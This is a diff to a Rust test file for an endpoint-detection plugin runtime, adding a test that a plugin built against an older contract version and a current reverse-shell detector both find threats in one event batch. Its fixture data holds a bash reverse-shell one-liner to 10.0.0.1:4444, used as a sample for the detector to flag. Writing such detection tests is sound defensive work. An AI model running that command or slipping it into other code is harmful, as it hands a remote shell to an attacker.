@@ -79,7 +79,7 @@ fn a_grant_without_an_imported_capability_is_refused_naming_the_import() {
     let err = rt.load(spec, Arc::new(edr_runtime::MemoryServices::default())).err().expect("must be refused");
     assert!(matches!(err, LoadError::NotGranted { .. }), "{err}");
     let msg = err.to_string();
-    assert!(msg.contains(&format!("edr:plugin/{missing}@0.1.0")), "{msg}");
+    assert!(msg.contains(&format!("edr:plugin/{missing}@{}", edr_runtime::CONTRACT_VERSION)), "{msg}");
 }
 
 #[test]
@@ -102,4 +102,48 @@ fn builtin_plugins_declare_at_init_what_the_guest_list_puts_in_their_manifest() 
         assert_eq!(plugin.info().name, g.name, "{}", g.package);
         assert_eq!(Some(plugin.info().subscriptions.as_slice()), g.subscriptions(), "{}: init and the guest list disagree", g.name);
     }
+}
+
+#[test]
+fn a_plugin_built_against_0_1_0_detects_beside_one_built_against_the_current_contract() {
+    let rt = runtime();
+    let services = Arc::new(edr_runtime::MemoryServices::default());
+    let load_in = |package: &str, name: &str| rt.load(PluginSpec::new(name, plugin_wasm(package)), services.clone()).unwrap_or_else(|e| panic!("{e}"));
+    let mut old = load_in("edr-test-contract-v0-1", "contract-v0-1");
+    let mut current = load_in("edr-plugin-reverse-shell", "reverse-shell");
+    assert_eq!(old.contract_version(), "0.1.0");
+    assert_eq!(current.contract_version(), edr_runtime::CONTRACT_VERSION);
+    assert_ne!(old.contract_version(), current.contract_version());
+    assert_eq!(old.info().name, "contract-v0-1");
+    let old_imports = rt.imports(&rt.compile("old", &plugin_wasm("edr-test-contract-v0-1")).unwrap());
+    assert!(!old_imports.is_empty() && old_imports.iter().all(|i| i.ends_with("@0.1.0")), "{old_imports:?}");
+
+    // One batch, encoded once in the current wire form, dispatched to both
+    // as the agent does: the 0.1.0 plugin gets it converted.
+    let evs = events(concat!(
+        r#"{"process":{"pid":4242,"executable":"/usr/bin/bash","args":["bash","-c","bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],"#,
+        r#""parent":{"pid":4200,"executable":"/usr/sbin/nginx"}}}"#,
+        "\n",
+        r#"{"process":{"pid":4243,"executable":"/tmp/x","args":["x","--über"],"parent":{"pid":4242,"executable":"/usr/bin/bash"}}}"#,
+    ));
+    let batch = edr_event::wire::EncodedBatch::encode(&evs);
+    let mut found = Vec::new();
+    for plugin in [&mut old, &mut current] {
+        let selection: Vec<_> = batch.events.iter().filter(|e| plugin.wants(e.kind())).collect();
+        let out = plugin.call(&batch, &selection);
+        assert!(out.error.is_none(), "{}: {:?}", plugin.name(), out.error);
+        assert!(!out.findings.is_empty(), "{} found nothing", plugin.name());
+        found.push(out.findings);
+    }
+    let old_findings = &found[0];
+    assert_eq!(old_findings.len(), 1, "{old_findings:#?}");
+    let f = &old_findings[0];
+    assert_eq!((f.rule_id.as_str(), f.event_ids.as_slice()), ("test.v0-1.exec-from-tmp", &[2][..]));
+    // Strings resolved through the converted references are the right ones.
+    assert_eq!(f.message, "/tmp/x run from /tmp: x --über");
+    assert!(f.evidence.contains(&("parent".to_string(), "/usr/bin/bash".to_string())), "{f:?}");
+    assert!(found[1].iter().any(|f| f.rule_id.starts_with("edr.revshell.") && f.event_ids == [1]), "{:#?}", found[1]);
+    // The old plugin's state import worked: it counted the two events it was sent.
+    let who = edr_runtime::PluginIdentity { plugin: "contract-v0-1".into(), pack: None };
+    assert_eq!(edr_runtime::HostServices::state_get(&*services, &who, "seen"), Some(2u64.to_le_bytes().to_vec()));
 }
